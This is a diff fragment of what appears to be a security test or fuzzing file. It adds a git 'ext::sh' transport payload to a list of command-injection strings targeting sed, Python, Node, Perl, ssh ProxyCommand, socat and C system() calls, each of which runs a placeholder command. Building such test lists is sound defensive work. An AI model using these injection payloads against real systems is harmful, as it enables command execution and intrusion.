@@ -34,6 +34,7 @@ PAYLOADS = (
     *(f"/;e {RUN}\n#", f"/e;s/.*/{RUN}/e;#", f"import os; os.system('{RUN}')", f"__import__('os').system('{RUN}')"),
     *(f"'+__import__('os').system('{RUN}')+'", f"require('child_process').execSync('{RUN}')", f"-e{RUN}"),
     *(f"-Mstrict;system('{RUN}')", f"-esystem('{RUN}')", f"ProxyCommand={RUN}", f"EXEC:{RUN}", f"SYSTEM:{RUN}"),
+    "ext::sh -c touch% PWNED",
     f'#include <stdlib.h>\nint main(){{system("{RUN}");}}',
 )
 
